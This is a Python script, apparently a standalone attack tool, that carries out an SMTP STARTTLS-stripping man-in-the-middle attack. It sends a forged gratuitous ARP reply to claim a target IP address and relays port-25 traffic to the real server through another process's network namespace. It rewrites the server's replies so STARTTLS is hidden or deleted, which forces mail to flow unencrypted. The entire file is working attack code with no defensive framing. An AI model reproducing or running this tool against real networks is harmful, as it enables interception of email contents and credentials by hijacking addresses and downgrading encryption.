#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A man in the middle who does not like STARTTLS: starttls-stripper.py ADDRESS PID

Runs where packets for ADDRESS arrive though they should not, and takes ADDRESS
for its own.  Tells the neighbours so (one ARP reply nobody asked for).  Each
connection to port 25 is handed on to the true ADDRESS through the network of
process PID, and what the server says comes back changed: for the first connection
STARTTLS becomes XXXXXXXX, for the others its line is taken out.
It does not: look at TLS, at port 465, or at anything the client says.
"""

import ctypes
import socket
import struct
import subprocess
import sys
import threading

address, pid = sys.argv[1], sys.argv[2]
CLONE_NEWNET = 0x40000000


def claim():
    """Say that ADDRESS is here."""
    ip = socket.inet_aton(address)
    cable = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    cable.bind(("eth0", 0x0806))
    mac = cable.getsockname()[4]
    cable.send(b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + ip + mac + ip)


def changed(octets, first):
    if first:
        return octets.replace(b"STARTTLS", b"XXXXXXXX")
    return octets.replace(b"250-STARTTLS\r\n", b"")


def pass_on(source, target, change):
    while octets := source.recv(65536):
        target.sendall(change(octets))
    target.shutdown(socket.SHUT_WR)


def serve(client, first):
    server = socket.create_connection((address, 25))
    back = threading.Thread(target=pass_on, args=(server, client, lambda octets: changed(octets, first)))
    back.start()
    pass_on(client, server, lambda octets: octets)
    back.join()
    client.close()
    server.close()


# Nobody else shall hear it from here who asks: the other network finds the true one.
with open("/proc/sys/net/ipv4/conf/all/arp_ignore", "w", encoding="ascii") as setting:
    setting.write("1")
subprocess.run(("ip", "address", "add", address + "/32", "dev", "lo"), check=True)
listener = socket.create_server((address, 25))
claim()
# From here on new sockets belong to the other network; the listener stays in this one.
with open(f"/proc/{pid}/ns/net", encoding="ascii") as network:
    if ctypes.CDLL(None, use_errno=True).setns(network.fileno(), CLONE_NEWNET) != 0:
        raise OSError(ctypes.get_errno(), "setns")
count = 0
while True:
    accepted, _ = listener.accept()
    threading.Thread(target=serve, args=(accepted, count == 0)).start()
    count += 1
